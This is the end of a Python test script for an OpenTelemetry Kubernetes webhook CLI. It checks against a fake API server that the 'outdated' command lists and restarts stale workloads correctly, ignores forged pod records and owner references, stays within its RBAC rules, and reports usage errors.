    for res, name in (("deployments", "api"), ("statefulsets", "db"), ("daemonsets", "agent")):
        ann = ((fake.get(res, name, "team")["spec"].get("template") or {}).get("metadata") or {}).get("annotations") or {}
        check("outdated: %s restartedAt as kubectl writes it" % name,
              re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", ann.get("kubectl.kubernetes.io/restartedAt", "")), ann)

    # A rollout that does not complete stops the restarts.
    fake.apply("namespaces", {"metadata": {"name": "slow"}})
    fake.apply("deployments", {"metadata": {"name": "stuck", "namespace": "slow", "uid": "stuck-uid"},
                               "spec": {"replicas": 1}})
    fake.apply("deployments", {"metadata": {"name": "zz-next", "namespace": "slow", "uid": "zz-next-uid"},
                               "spec": {"replicas": 1}})
    for rs, dep in (("stuck-1", "stuck"), ("zz-next-1", "zz-next")):
        fake.apply("replicasets", {"metadata": {"name": rs, "namespace": "slow", "uid": rs + "-uid", "ownerReferences": [
            {"apiVersion": "apps/v1", "kind": "Deployment", "name": dep, "uid": dep + "-uid", "controller": True}]}})
        o = copy.deepcopy(stale)
        o["metadata"].update(name=rs + "-a", namespace="slow", ownerReferences=[
            {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs, "uid": rs + "-uid", "controller": True}])
        fake.apply("pods", o)
    n0 = len(fake.requests)
    rc, out, err = run("outdated", "--kubeconfig", kc, "-n", "slow", "--restart", "--yes", "--interval", "0",
                       "--timeout", "1")
    check("outdated: a stuck rollout stops the restarts", rc == 1 and out.endswith(
        "restarted Deployment slow/stuck\n") and err ==
        "otel-webhook outdated: the rollout of Deployment slow/stuck did not complete within 1 s; no further restarts\n",
        (rc, out[-300:], err))
    check("outdated: nothing restarted after it", [r["path"] for r in fake.requests[n0:] if r["method"] == "PATCH"] ==
          ["/apis/apps/v1/namespaces/slow/deployments/stuck"], fake.requests[n0:])

    # An owner of the apps kinds from another API group (OpenKruise's
    # StatefulSet) is not apps/v1's object of that name, which exists too;
    # finished pods (a Job's) and pods being deleted are not outdated.
    fake.apply("namespaces", {"metadata": {"name": "kruise"}})
    fake.apply("statefulsets", {"metadata": {"name": "kdb", "namespace": "kruise"}, "spec": {"replicas": 1}})
    for name, extra in (("kdb-0", {"ownerReferences": [{"apiVersion": "apps.kruise.io/v1beta1", "kind": "StatefulSet",
                                                        "name": "kdb", "uid": "kdb-uid", "controller": True}]}),
                        ("job-x", {"ownerReferences": [{"apiVersion": "batch/v1", "kind": "Job", "name": "job",
                                                        "uid": "job-uid", "controller": True}]}),
                        ("going", {"deletionTimestamp": "2026-12-01T00:00:00Z"})):
        o = copy.deepcopy(stale)
        o["metadata"].update(name=name, namespace="kruise", **extra)
        if name == "job-x":
            o["status"] = {"phase": "Succeeded"}
        fake.apply("pods", o)
    n0 = len(fake.requests)
    rc, out, err = run("outdated", "--kubeconfig", kc, "-n", "kruise", "--restart", "--yes", "--interval", "0")
    lines = out.splitlines()
    check("outdated: another group's StatefulSet listed qualified", rc == 0 and
          lines[0] == "StatefulSet.apps.kruise.io kruise/kdb: 1 pod (kdb-0)" and
          "1 workload, 1 pod outdated (1 injected pod checked)" in lines, (rc, out, err))
    check("outdated: another group's StatefulSet not restarted", lines[-1:] ==
          ["not restarted: StatefulSet.apps.kruise.io kruise/kdb: not of apps/v1; restart it with its own tooling"] and
          not [r for r in fake.requests[n0:] if r["method"] != "GET"], (out, fake.requests[n0:]))
    check("outdated: finished and deleting pods left out", "job-x" not in out and "going" not in out, out)

    # Forged staleness: a record is the pod author's data. A pod whose record
    # claims an older Instrumentation while the pod itself runs today's images
    # and variables is listed with that said, and its workload is not
    # restarted; a record that does not prove itself (an image the pod does
    # not run) is warned about and not checked at all. Before, both were
    # listed as stale and their Deployment restarted.
    fake.apply("deployments", {"metadata": {"name": "forged-dep", "namespace": "team", "uid": "forged-dep-uid"},
                               "spec": {"replicas": 1}})
    fake.apply("replicasets", {"metadata": {"name": "forged-dep-1", "namespace": "team", "uid": "forged-dep-1-uid",
                               "ownerReferences": [
        {"apiVersion": "apps/v1", "kind": "Deployment", "name": "forged-dep", "uid": "forged-dep-uid",
         "controller": True}]}})
    claims = json.loads(current["metadata"]["annotations"][KEY])
    for u in claims["uses"]:
        if u.get("language") == "java":
            u.update(resourceVersion="1", hash="0000000000000000")
    lying = json.loads(current["metadata"]["annotations"][KEY])
    lying["images"]["opentelemetry-auto-instrumentation-java"] = "example.com/java-agent:0.9"
    owner = {"kind": "ReplicaSet", "name": "forged-dep-1"}
    for name, r in (("forged-dep-1-a", claims), ("forged-dep-1-b", lying)):
        o = copy.deepcopy(current)
        o["metadata"]["annotations"][KEY] = json.dumps(r)
        o["metadata"]["name"] = name
        o["metadata"]["ownerReferences"] = [dict(owner, apiVersion="apps/v1", uid="forged-dep-1-uid", controller=True)]
        fake.apply("pods", o)
    n0 = len(fake.requests)
    rc, out, err = run("outdated", "--kubeconfig", kc, "-n", "team", "--restart", "--yes", "--interval", "0")
    java_img = [c for c in current["spec"]["initContainers"] if c["name"] == "opentelemetry-auto-instrumentation-java"][0]["image"]
    check("outdated: a record that does not prove itself is not checked",
          "warning: Pod team/forged-dep-1-b: otel-webhook/status: the record's images.opentelemetry-auto-instrumentation-java "
          "is example.com/java-agent:0.9, but the pod's opentelemetry-auto-instrumentation-java runs %s; not checked\n"
          % java_img in err and "forged-dep-1-b" not in out, (err, out))
    check("outdated: staleness only claimed is listed as such", (
        "Deployment team/forged-dep: 1 pod (forged-dep-1-a)\n"
        "  Instrumentation team/inst-b (java) changed since the injection (resourceVersion 1, now resourceVersion %s)\n"
        "  (the records' word only: the pods' images and variables are what today's resources give)\n" % rv) in out, out)
    check("outdated: ... and not restarted",
          "not restarted: Deployment team/forged-dep: its pods do not show the staleness their records claim\n" in out and
          not [r for r in fake.requests[n0:] if r["method"] == "PATCH" and "forged-dep" in r["path"]], out)
    check("outdated: the pods that show it still restarted",
          [r["path"] for r in fake.requests[n0:] if r["method"] == "PATCH"] == [
              "/apis/apps/v1/namespaces/team/daemonsets/agent", "/apis/apps/v1/namespaces/team/deployments/api",
              "/apis/apps/v1/namespaces/team/deployments/ghost", "/apis/apps/v1/namespaces/team/statefulsets/db"],
          [r["path"] for r in fake.requests[n0:] if r["method"] == "PATCH"])
    for name in ("forged-dep-1-a", "forged-dep-1-b"):
        fake.delete("pods", name, "team")

    # Forged owners: an owner reference is the pod author's data too. A pod
    # naming a Deployment itself, a ReplicaSet or a StatefulSet with another
    # uid proves no owner: it is warned about and counts as a pod of its own;
    # a ReplicaSet whose Deployment has another uid (a Deployment replaced by
    # one of the same name) counts as the ReplicaSet. None is restarted.
    # Before, each restarted the workload it named.
    fake.apply("namespaces", {"metadata": {"name": "forge"}})
    fake.apply("deployments", {"metadata": {"name": "victim", "namespace": "forge", "uid": "victim-uid"},
                               "spec": {"replicas": 1}})
    fake.apply("statefulsets", {"metadata": {"name": "vdb", "namespace": "forge", "uid": "vdb-uid"},
                                "spec": {"replicas": 1}})
    fake.apply("replicasets", {"metadata": {"name": "victim-1", "namespace": "forge", "uid": "victim-1-uid",
                                            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment",
                                                                 "name": "victim", "uid": "victim-uid",
                                                                 "controller": True}]}})
    fake.apply("replicasets", {"metadata": {"name": "old-1", "namespace": "forge", "uid": "old-1-uid",
                                            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment",
                                                                 "name": "victim", "uid": "victim-before-uid",
                                                                 "controller": True}]}})
    for name, kind, owner, uid in (("f-dep", "Deployment", "victim", "victim-uid"),
                                   ("f-rs", "ReplicaSet", "victim-1", "made-up-uid"),
                                   ("f-sts", "StatefulSet", "vdb", "vdb-before-uid"),
                                   ("old-1-a", "ReplicaSet", "old-1", "old-1-uid")):
        o = copy.deepcopy(stale)
        o["metadata"].update(name=name, namespace="forge", ownerReferences=[
            {"apiVersion": "apps/v1", "kind": kind, "name": owner, "uid": uid, "controller": True}])
        fake.apply("pods", o)
    gone = "  nothing would be injected now\n"  # (no Instrumentation in forge: stale all the same)
    n0 = len(fake.requests)
    rc, out, err = run("outdated", "--kubeconfig", kc, "-n", "forge", "--restart", "--yes", "--interval", "0")
    check("outdated: forged owners warned about", err ==
          "warning: Pod forge/f-dep: its controller reference names Deployment forge/victim, which owns pods only "
          "through ReplicaSets; listed as a pod of its own\n"
          "warning: Pod forge/f-rs: its controller reference names ReplicaSet forge/victim-1 with uid made-up-uid, "
          "but that object's uid is victim-1-uid; listed as a pod of its own\n"
          "warning: Pod forge/f-sts: its controller reference names StatefulSet forge/vdb with uid vdb-before-uid, "
          "but that object's uid is vdb-uid; listed as a pod of its own\n"
          "warning: Pod forge/old-1-a: ReplicaSet forge/old-1's controller reference names Deployment forge/victim "
          "with uid victim-before-uid, but that object's uid is victim-uid; listed under the ReplicaSet\n", err)
    check("outdated: forged owners listed as what they prove", rc == 0 and out == (
        "Pod forge/f-dep: 1 pod (f-dep)\n" + gone +
        "Pod forge/f-rs: 1 pod (f-rs)\n" + gone +
        "Pod forge/f-sts: 1 pod (f-sts)\n" + gone +
        "ReplicaSet forge/old-1: 1 pod (old-1-a)\n" + gone +
        "4 workloads, 4 pods outdated (4 injected pods checked)\n"
        "not restarted: Pod forge/f-dep: no owning workload; delete the pod to re-create it\n"
        "not restarted: Pod forge/f-rs: no owning workload; delete the pod to re-create it\n"
        "not restarted: Pod forge/f-sts: no owning workload; delete the pod to re-create it\n"
        "not restarted: ReplicaSet forge/old-1: not owned by a Deployment; delete its pods\n"), (rc, out))
    check("outdated: forged owners restart nothing", not [r for r in fake.requests[n0:] if r["method"] != "GET"],
          [r for r in fake.requests[n0:] if r["method"] != "GET"])
    check("outdated: each owner read once", sorted(r["path"] for r in fake.requests[n0:] if "/apis/apps/" in r["path"]) == [
        "/apis/apps/v1/namespaces/forge/deployments/victim", "/apis/apps/v1/namespaces/forge/replicasets/old-1",
        "/apis/apps/v1/namespaces/forge/replicasets/victim-1", "/apis/apps/v1/namespaces/forge/statefulsets/vdb"],
          [r["path"] for r in fake.requests[n0:]])

    # Every request outdated and explain made is allowed by the overlay's
    # ClusterRole, and every rule of it was used.
    rules = rbac_rules("deploy/overlays/outdated/rbac.yaml")
    used = set()
    for r in fake.requests:
        if r["path"] in ("/version",):
            continue
        attrs = request_attrs(r["method"], r["path"])
        check("RBAC allows %s %s" % (r["method"], r["path"]), attrs in rules, attrs)
        used.add(attrs)
    check("RBAC: every rule used", set(rules) == used, sorted(set(rules) - used))

    _rc, OUSAGE, _err = run("outdated", "--help")
    check("outdated --help", _rc == 0 and OUSAGE.startswith("usage: otel-webhook outdated --kubeconfig FILE"), OUSAGE)
    for args, line in (((), "--kubeconfig or --in-cluster is required"),
                       (("--kubeconfig", kc, "--in-cluster"), "--kubeconfig and --in-cluster exclude each other"),
                       (("--kubeconfig", kc, "--yes"), "--yes needs --restart"),
                       (("--in-cluster", "--context", "c"), "--context needs --kubeconfig"),
                       (("--kubeconfig", kc, "--restart", "--interval", "-1"),
                        "--interval -1: expected seconds from 0 to 86400"),
                       (("--kubeconfig", kc, "--restart", "--timeout", "x"),
                        "--timeout x: expected seconds from 0 to 86400")):
        rc, out, err = run("outdated", *args)
        check("outdated usage %s" % (args,), rc == 2 and err == "otel-webhook outdated: %s\n"
              "Run 'otel-webhook outdated --help' for usage.\n" % line,
              err[:300])


outdated_tests()
# The command list of `otel-webhook --help` names the three commands.
rc, out, err = run("--help")
for line in ("  uninject  remove what inject or the webhook added, by its otel-webhook/status record\n",
             "  explain   say what would be injected into each pod and container, and why\n",
             "  outdated  list (and --restart) running pods injected from older resources\n"):
    check("the command list: %s" % line.split()[0], rc == 0 and line in out, out)
sys.exit(check.finish(RESULTS))
